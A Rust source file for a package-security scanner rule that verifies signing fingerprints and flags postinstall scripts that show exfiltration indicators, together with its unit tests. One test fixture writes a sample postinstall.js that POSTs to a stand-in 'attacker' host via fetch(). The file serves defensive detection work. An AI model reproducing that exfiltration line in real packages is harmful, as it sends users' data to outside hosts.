use tracing::{debug, warn};

use super::{Rule, ScanContext};
use crate::error::ScanError;
use crate::loader::read_optional_lossy;
use crate::model::{Finding, FindingKind, Severity};

const POSTINSTALL_FILE: &str = "postinstall.js";

/// Uppercases a fingerprint and drops whitespace so formatting differences
/// do not count as a mismatch.
pub fn normalize_fingerprint(fingerprint: &str) -> String {
    fingerprint
        .chars()
        .filter(|c| !c.is_whitespace())
        .flat_map(char::to_uppercase)
        .collect()
}

/// Checks the `signing` block of a package against the trusted key and looks
/// for behavior a valid signature would not excuse.
///
/// A signature that verifies proves only who signed, so a signed package
/// with an exfiltrating postinstall still gets a critical finding.
pub struct SignatureRule;

impl Rule for SignatureRule {
    fn id(&self) -> &'static str {
        "signature"
    }

    fn check(&self, ctx: &ScanContext<'_>) -> Result<Vec<Finding>, ScanError> {
        let Some(manifest) = &ctx.inputs.manifest else {
            return Ok(Vec::new());
        };
        let settings = &ctx.config.signing;
        let mut findings = Vec::new();

        match &manifest.signing {
            None => findings.push(Finding::new(
                Severity::Warning,
                FindingKind::NoSignature,
                "Package has no signature information",
            )),
            Some(signing) => {
                debug!(
                    key_id = ?signing.key_id,
                    signed_by = ?signing.signed_by,
                    signature_date = ?signing.signature_date,
                    "Found signing block"
                );

                if !signing.is_complete() {
                    let blank = |v: &Option<String>| v.as_deref().is_none_or(|s| s.trim().is_empty());
                    let missing: Vec<&str> = [
                        ("keyId", blank(&signing.key_id)),
                        ("keyFingerprint", blank(&signing.key_fingerprint)),
                    ]
                    .into_iter()
                    .filter_map(|(field, is_blank)| is_blank.then_some(field))
                    .collect();

                    findings.push(
                        Finding::new(
                            Severity::Error,
                            FindingKind::InvalidSignature,
                            "Signature information is incomplete",
                        )
                        .with_detail("missing", missing),
                    );
                }

                if let Some(actual) = signing.key_fingerprint.as_deref() {
                    if normalize_fingerprint(actual)
                        != normalize_fingerprint(&settings.trusted_fingerprint)
                    {
                        let mut finding = Finding::new(
                            Severity::Critical,
                            FindingKind::FingerprintMismatch,
                            format!("Key fingerprint mismatch: {}", actual),
                        )
                        .with_detail("expected", settings.trusted_fingerprint.as_str())
                        .with_detail("actual", actual);
                        if let Some(key_id) = &signing.key_id {
                            finding = finding.with_detail("key_id", key_id.as_str());
                        }
                        findings.push(finding);
                    }
                }
            }
        }

        if let Some(command) = manifest.script("postinstall") {
            findings.push(
                Finding::new(
                    Severity::Warning,
                    FindingKind::PostinstallInSigned,
                    "Package has postinstall script despite being signed",
                )
                .with_detail("command", command),
            );
        }

        let script_path = ctx.root.join(POSTINSTALL_FILE);
        let content = match read_optional_lossy(&script_path) {
            Ok(content) => content,
            Err(e) => {
                warn!("{}", e);
                findings.push(e.to_finding());
                None
            }
        };
        if let Some(content) = content {
            let hits: Vec<&str> = settings
                .behavior_indicators
                .iter()
                .map(String::as_str)
                .filter(|indicator| content.contains(indicator))
                .collect();

            if !hits.is_empty() {
                findings.push(
                    Finding::new(
                        Severity::Critical,
                        FindingKind::MaliciousBehavior,
                        "Package contains postinstall script with data exfiltration",
                    )
                    .with_detail("file", POSTINSTALL_FILE)
                    .with_detail("indicators", hits),
                );
            }
        }

        Ok(findings)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checker::test_support::{manifest, run};
    use crate::checker::ScanInputs;
    use crate::config::Config;
    use std::fs;
    use tempfile::TempDir;

    const TRUSTED: &str = "ABCD 1234 EFGH 5678 90AB CDEF 1234 5678 90AB CDEF";

    fn inputs(json: &str) -> ScanInputs {
        ScanInputs {
            manifest: Some(manifest(json)),
            ..Default::default()
        }
    }

    fn signed(fingerprint: &str) -> String {
        format!(
            r#"{{"signing":{{"keyId":"0xDEADBEEF","keyFingerprint":"{}","signedBy":"Secure Utils Team","signatureDate":"2024-01-15"}}}}"#,
            fingerprint
        )
    }

    #[test]
    fn test_trusted_fingerprint_is_clean() {
        let dir = TempDir::new().unwrap();
        let findings = run(&SignatureRule, dir.path(), &Config::default(), &inputs(&signed(TRUSTED)));
        assert!(findings.is_empty());
    }

    #[test]
    fn test_fingerprint_formatting_is_normalized() {
        let dir = TempDir::new().unwrap();
        let findings = run(
            &SignatureRule,
            dir.path(),
            &Config::default(),
            &inputs(&signed("abcd1234efgh567890abcdef123456 7890abcdef")),
        );
        assert!(findings.is_empty());
    }

    #[test]
    fn test_mismatched_fingerprint_is_critical() {
        let dir = TempDir::new().unwrap();
        let findings = run(
            &SignatureRule,
            dir.path(),
            &Config::default(),
            &inputs(&signed("DEAD BEEF 0000 1111 2222 3333 4444 5555 6666 7777")),
        );

        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].kind, FindingKind::FingerprintMismatch);
        assert_eq!(findings[0].severity, Severity::Critical);
    }

    #[test]
    fn test_incomplete_signature_is_error() {
        let dir = TempDir::new().unwrap();
        let findings = run(
            &SignatureRule,
            dir.path(),
            &Config::default(),
            &inputs(r#"{"signing":{"keyId":"0xDEADBEEF"}}"#),
        );

        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].kind, FindingKind::InvalidSignature);
        assert_eq!(findings[0].severity, Severity::Error);
    }

    #[test]
    fn test_unsigned_package_is_warning() {
        let dir = TempDir::new().unwrap();
        let findings = run(&SignatureRule, dir.path(), &Config::default(), &inputs("{}"));

        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].kind, FindingKind::NoSignature);
    }

    #[test]
    fn test_signed_package_with_exfiltrating_postinstall() {
        let dir = TempDir::new().unwrap();
        fs::write(
            dir.path().join("postinstall.js"),
            "fetch('http://attacker:3000/collect', { method: 'POST' })",
        )
        .unwrap();

        let json = r#"{
            "scripts": { "postinstall": "node postinstall.js" },
            "signing": {
                "keyId": "0xDEADBEEF",
                "keyFingerprint": "ABCD 1234 EFGH 5678 90AB CDEF 1234 5678 90AB CDEF"
            }
        }"#;
        let findings = run(&SignatureRule, dir.path(), &Config::default(), &inputs(json));

        let kinds: Vec<_> = findings.iter().map(|f| f.kind).collect();
        assert_eq!(
            kinds,
            vec![FindingKind::PostinstallInSigned, FindingKind::MaliciousBehavior]
        );
        assert_eq!(findings[1].severity, Severity::Critical);
    }

    #[test]
    fn test_normalize_fingerprint() {
        assert_eq!(normalize_fingerprint(" ab cd\tEF "), "ABCDEF");
    }

    #[test]
    fn test_non_utf8_postinstall_keeps_signature_findings() {
        let dir = TempDir::new().unwrap();
        fs::write(dir.path().join("postinstall.js"), b"collect \xff\xfe").unwrap();

        let findings = run(
            &SignatureRule,
            dir.path(),
            &Config::default(),
            &inputs(&signed("DEAD BEEF 0000 1111 2222 3333 4444 5555 6666 7777")),
        );

        let kinds: Vec<_> = findings.iter().map(|f| f.kind).collect();
        assert_eq!(
            kinds,
            vec![FindingKind::FingerprintMismatch, FindingKind::MaliciousBehavior]
        );
    }

    #[test]
    fn test_unreadable_postinstall_is_reported_alongside() {
        let dir = TempDir::new().unwrap();
        fs::create_dir(dir.path().join("postinstall.js")).unwrap();

        let findings = run(
            &SignatureRule,
            dir.path(),
            &Config::default(),
            &inputs(&signed("DEAD BEEF 0000 1111 2222 3333 4444 5555 6666 7777")),
        );

        let kinds: Vec<_> = findings.iter().map(|f| f.kind).collect();
        assert_eq!(
            kinds,
            vec![FindingKind::FingerprintMismatch, FindingKind::UnreadableFile]
        );
        assert_eq!(findings[1].severity, Severity::Error);
    }
}
